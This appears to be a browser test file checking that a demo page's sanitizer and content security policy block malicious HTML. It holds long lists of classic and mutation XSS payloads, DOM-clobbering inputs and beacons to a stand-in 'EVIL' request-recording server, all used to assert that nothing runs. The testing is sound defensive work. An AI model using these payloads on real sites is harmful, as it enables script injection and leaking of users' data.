// Malicious pages cannot run scripts or load anything in any view of the demo page.
import assert from 'node:assert/strict';
import test, { after, before } from 'node:test';
import { launch } from './chromium.mjs';
import { noProblems, openDemo, paste, serve } from './demo-support.mjs';

/**
 * The payload that replaces `RUN` in each attack: it sets a flag on all windows that it can reach and
 * sends a request. `EVIL` is replaced by the origin of a server that records requests.
 */
const RUN = `try{top.ran=1}catch(e){};try{parent.ran=1}catch(e){};window.ran=1;new Image().src='EVIL/ran'`;

// Based on OWASP's cheat sheet on XSS filter evasion.
const CLASSIC = [
  `<script>RUN</script>`, `<SCRIPT SRC=EVIL/x.js></SCRIPT>`, `<<SCRIPT>RUN//<</SCRIPT>`, `<script/x>RUN</script>`,
  `<script type=module>RUN</script>`, `<svg><script>RUN</script></svg>`, `<svg><script href=EVIL/x.js></script></svg>`,
  `<svg><script xlink:href="data:text/javascript,RUN"></script></svg>`, `<math><script>RUN</script></math>`,
  `<noscript><script>RUN</script></noscript>`, `<img src=x onerror="RUN">`, `<IMG """><img/src=x/onerror="RUN">`,
  `<img src=EVIL/pixel.png>`, `<img srcset="EVIL/set.png 1x">`, `<picture><source srcset=EVIL/source.png><img></picture>`,
  `<body onload="RUN">`, `<body background=EVIL/body.png>`, `<svg onload="RUN">`, `<svg/onload=RUN>`,
  `<details open ontoggle="RUN"><summary>x</summary></details>`, `<video autoplay src=EVIL/v.mp4 onloadstart="RUN"></video>`,
  `<audio src=x onerror="RUN"></audio>`, `<video><source onerror="RUN"></video>`, `<input autofocus onfocus="RUN">`,
  `<select autofocus onfocus="RUN"></select>`, `<textarea autofocus onfocus="RUN"></textarea>`, `<marquee onstart="RUN">x</marquee>`,
  `<div style="animation:a 1s" onanimationstart="RUN">x</div><style>@keyframes a{}</style>`,
  `<div onpointerover="RUN" onmouseover="RUN" onclick="RUN">over me</div>`, `<xss tabindex=1 autofocus onfocus="RUN">x</xss>`,
  `<a href="javascript:RUN">link one</a>`, `<a href="jav&#x09;ascript:RUN">link two</a>`, `<a href=" &#14; javascript:RUN">link three</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN">link four</a>`, `<a href="data:text/html,<script>RUN</script>">link five</a>`,
  `<a href="vbscript:RUN">link six</a>`, `<svg><a xlink:href="javascript:RUN"><text y=20>link seven</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>link eight</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="RUN"/><text y=20>x</text></svg>`, `<math href="javascript:RUN">x</math>`,
  `<math><mtext xlink:href="javascript:RUN">x</mtext></math>`, `<form action="javascript:RUN"><button>send one</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:RUN">send two</button>`, `<form action=EVIL/form><input type=submit value=send></form>`,
  `<isindex action="javascript:RUN" type=submit>`, `<iframe src="javascript:RUN"></iframe>`, `<iframe srcdoc="<script>RUN</script>"></iframe>`,
  `<iframe src=EVIL/frame></iframe>`, `<object data="javascript:RUN"></object>`, `<object data=EVIL/o></object>`,
  `<embed src="javascript:RUN">`, `<embed src=EVIL/e>`, `<applet code=x></applet>`, `<frameset><frame src="javascript:RUN"></frameset>`,
  `<meta http-equiv=refresh content="0;url=EVIL/refresh">`, `<meta http-equiv=refresh content="0;url=javascript:RUN">`,
  `<meta http-equiv="Set-Cookie" content="ran=1">`, `<base href=EVIL/>`, `<link rel=stylesheet href=EVIL/s.css>`,
  `<link rel=prefetch href=EVIL/p>`, `<link rel=dns-prefetch href=EVIL>`, `<link rel=import href=EVIL/i>`,
  `<style>@import 'EVIL/import.css';body{background:url(EVIL/bg.png)}</style>`, `<div style="background:url(EVIL/style.png)">x</div>`,
  `<style>@font-face{font-family:e;src:url(EVIL/font.woff)}*{font-family:e}</style>`, `<style>p{-moz-binding:url(EVIL/b.xml);behavior:url(EVIL/b.htc)}</style>`,
  `<div style="width:expression(RUN)">x</div>`, `<table background=EVIL/t.png><td background=EVIL/td.png>x</table>`,
  `<a ping=EVIL/ping href=#x>ping</a>`, `<bgsound src="javascript:RUN">`, `<layer src=EVIL/l></layer>`,
  `<template><script>RUN</script></template>`, `<div><template shadowrootmode=open><img src=x onerror="RUN"></template></div>`,
  `<dialog open onclose="RUN">x</dialog>`, `<button popovertarget=p onclick="RUN">pop</button><div popover id=p onbeforetoggle="RUN">x</div>`,
  `<portal src=EVIL/portal></portal>`, `<img lowsrc=EVIL/low.png dynsrc="javascript:RUN">`, `<image src=x onerror="RUN">`,
  `<svg><image href=EVIL/svg.png /></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>`, `<svg><feImage href=EVIL/fe.png /></svg>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script></svg>">`,
  `<?xml-stylesheet href="javascript:RUN"?>`, `<!--[if gte IE 4]><script>RUN</script><![endif]-->`,
];

// Mutation XSS: HTML whose meaning changes when it is serialized and parsed again. DOM clobbering:
// names that shadow the methods that a sanitizer calls.
const MUTANT = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='RUN'&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror='RUN'>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="RUN">`,
  `<noscript><p title="</noscript><img src=x onerror='RUN'>">`, `<svg><style><img title="</style><img src=x onerror='RUN'>"></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="RUN"></style></annotation-xml></math>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror='RUN'>">`, `<textarea><img title="</textarea><img src=x onerror='RUN'>">`,
  `<xmp><p title="</xmp><img src=x onerror='RUN'>">`, `<noembed><p title="</noembed><img src=x onerror='RUN'>">`, `<plaintext><img src=x onerror="RUN">`,
  `<svg><desc><title><![CDATA[</title><img src=x onerror="RUN">]]></desc></svg>`, `<table><td><svg><p><style><g title="</style><img src=x onerror='RUN'>">`,
  `<form onmouseover="RUN"><input name=attributes><input name=children><input name=removeAttribute><input name=getAttributeNames><input name=remove>over</form>`,
  `<form><input id=localName><input id=parentNode><input id=nodeType></form>`, `<img name=write><img name=close><img name=documentElement><img name=body><img name=elementFromPoint><img name=querySelectorAll><img name=adoptNode>`,
  `<form name=implementation></form><form name=createElement></form><iframe name=defaultView></iframe><object id=createTreeWalker></object>`,
  `<a id=ran></a><a id=ran name=x href=javascript:RUN>clobber</a>`, `<p id=page-title>twin</p><p id=inspector>twin</p>`,
  `<b id="&quot;&gt;&lt;img src=x onerror=RUN&gt;">quoted</b>`, `<p class="&lt;img src=x onerror=RUN&gt;">classy</p>`, `<img alt="&lt;img src=x onerror=RUN&gt;">`,
  `<p>${'<b>'.repeat(600)}<img src=x onerror="RUN">${'</b>'.repeat(600)}</p>`, `<img${' a=b'.repeat(300)} src=x onerror="RUN">`,
];

const PROSE = 'The river rose again in the night, and in the morning the lower streets of the town, which had only just been cleaned, stood under water. ';
const story = (attacks) => `<!doctype html><title>&lt;img src=x onerror=RUN&gt; The river</title>
  <meta name=author content="&lt;script&gt;RUN&lt;/script&gt;"><meta property=og:site_name content="&lt;img src=x onerror=RUN&gt;">
  <article><h1>&lt;img src=x onerror=RUN&gt; The river</h1>${attacks.map((attack) => `<div><p>${PROSE}${attack}</p></div>\n<p>${PROSE}</p>`).join('\n')}
  <p>&lt;img src=x onerror=RUN&gt; ${PROSE}</p><pre>&lt;script&gt;RUN&lt;/script&gt; ${PROSE}</pre></article>`.replaceAll('RUN', RUN.replaceAll("'", '&#39;')).replaceAll('EVIL', evil.origin);

/** The same without character references in the payload, which script elements do not decode. */
const raw = (attacks) => story(attacks).replaceAll('&#39;', "'");

let site, evil, browser;

before(async () => {
  site = await serve();
  evil = await serve();
  browser = await launch();
});

after(async () => {
  await browser?.close();
  site?.close();
  evil?.close();
});

/** Opens the demo, and records dialogs, popups and navigations. */
async function openWatchedDemo() {
  const opened = await openDemo(browser, site.demo);
  const { page } = opened;
  const found = [];
  page.on('dialog', (dialog) => (found.push(`dialog: ${dialog.message()}`), dialog.dismiss()));
  page.on('popup', (popup) => found.push(`popup: ${popup.url()}`));
  page.on('framenavigated', (frame) => found.push(`navigated: ${frame.url()}`));
  evil.requests.length = 0;
  return { ...opened, found };
}

/** Shows a page in all views, triggers events on every element, and returns the resulting state. */
async function expose(page, html) {
  await paste(page, html);
  const elements = await page.evaluate(async () => {
    const frame = document.querySelector('iframe').contentDocument;
    let count = 0;
    for (const root of [frame, document.querySelector('#article-view article'), document.querySelector('#output-view')]) {
      for (const element of root.querySelectorAll('*')) {
        count += 1;
        if (element.matches('.download, .copy, #article-view a[href]')) continue;
        for (const type of ['pointerover', 'mouseover', 'mouseenter', 'focus', 'toggle', 'animationstart', 'load', 'error']) {
          element.dispatchEvent(new Event(type));
        }
        element.focus?.();
        element.click?.();
      }
    }
    return count;
  });
  for (const tab of ['html', 'text', 'json', 'markdown']) await page.click(`#tab-${tab}`);
  await page.focus('#overview');
  for (const key of ['End', 'ArrowLeft', 'Home', 'ArrowRight']) await page.keyboard.press(key);
  await page.waitForTimeout(150);
  const state = await page.evaluate(() => {
    const frame = document.querySelector('iframe').contentWindow;
    const views = [frame.document, document.querySelector('#views')];
    const all = views.flatMap((view) => [...view.querySelectorAll('*')]);
    return {
      ran: [window.ran, frame.ran].filter((value) => value === 1),
      cookie: document.cookie,
      active: all.filter((element) => /^(?:script|object|embed|base|meta|link|frame|animate|set)$/i.test(element.localName) && element.id !== 'own').map((element) => element.outerHTML),
      handlers: all.flatMap((element) => [...element.attributes].filter(({ name }) => /^on/i.test(name)).map(({ name }) => name)),
      unsafeUrls: views.flatMap((view) => [...view.querySelectorAll('[href], [src], [action], [formaction]')])
        .flatMap((element) => ['href', 'src', 'action', 'formaction'].map((name) => element.getAttribute(name)))
        .filter((value) => value && /^\s*(?:javascript|vbscript|data:text)/i.test(value)),
      path: location.pathname,
    };
  });
  return { state, elements };
}

const assertHarmless = ({ found, problems }, state, name) => {
  assert.deepEqual([...found, ...evil.requests], [], name);
  assert.deepEqual(state, { ran: [], cookie: '', active: [], handlers: [], unsafeUrls: [], path: '/some/where/' }, name);
  // The console may only report styles and images that the frame's policy blocked.
  const others = problems.filter((text) => !/violates the following Content Security Policy directive: "?(?:style-src|img-src|font-src|default-src)/.test(text));
  assert.deepEqual(others, [], name);
};

test('the attacks would run in a page that trusts them', async () => {
  const page = await browser.newPage();
  evil.requests.length = 0;
  await page.setContent(raw(['<img src=x onerror="RUN"><img src=EVIL/pixel.png>']));
  await page.waitForFunction(() => window.ran === 1);
  await page.waitForLoadState('networkidle');
  assert.deepEqual(evil.requests.sort(), ['/pixel.png', '/ran']);
  await page.close();
});

test('classic XSS attacks, all on one page', async () => {
  const demo = await openWatchedDemo();
  for (const html of [story(CLASSIC), raw(CLASSIC)]) {
    const { state, elements } = await expose(demo.page, html);
    assert.ok(elements > 200);
    assertHarmless(demo, state, 'classic');
  }
  await demo.close();
});

test('classic XSS attacks, five per page', async () => {
  const demo = await openWatchedDemo();
  for (let i = 0; i < CLASSIC.length; i += 5) {
    const attacks = CLASSIC.slice(i, i + 5);
    assertHarmless(demo, (await expose(demo.page, raw(attacks))).state, `${attacks}`);
  }
  await demo.close();
});

test('mutation XSS and DOM clobbering, one attack per page', async () => {
  const demo = await openWatchedDemo();
  for (const attack of MUTANT) {
    for (const html of [story([attack]), raw([attack])]) assertHarmless(demo, (await expose(demo.page, html)).state, attack);
  }
  await demo.close();
});

test('a frameset, input that is not HTML, and pages that are only an attack', async () => {
  for (const html of [
    raw([]).replace('<article>', '<frameset><frame src="javascript:RUN"></frameset><article>'), `\u0000\ufffe${'\ud800'.repeat(10)}<p>${PROSE}`,
    `<script>${RUN}</script>`, `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN.replaceAll('"', '')}">`, '<html><head><meta http-equiv=refresh content=0>',
  ]) {
    const { page, problems, close } = await openDemo(browser, site.demo);
    await paste(page, html);
    assert.equal(await page.evaluate(() => window.ran ?? document.querySelector('iframe').contentWindow.ran), undefined);
    assert.ok(await page.isHidden('#problem'), await page.textContent('#problem'));
    noProblems(problems);
    await close();
  }
});

test('the demo page has a strict content security policy', async () => {
  const { page, close } = await openDemo(browser, site.demo);
  const policy = await page.getAttribute('meta[http-equiv=content-security-policy]', 'content');
  assert.match(policy, /default-src 'none'/);
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|\*/);
  assert.equal(await page.getAttribute('iframe', 'sandbox'), 'allow-same-origin');
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.inline = 1';
    document.body.append(script);
    document.body.setAttribute('onclick', 'window.inline = 1');
    document.body.click();
    const inner = document.querySelector('iframe').contentDocument.createElement('script');
    inner.textContent = 'parent.inline = 1; window.inline = 1';
    document.querySelector('iframe').contentDocument.body.append(inner);
    return [window.inline, document.querySelector('iframe').contentWindow.inline];
  });
  assert.deepEqual(ran, [undefined, undefined]);
  await close();
});
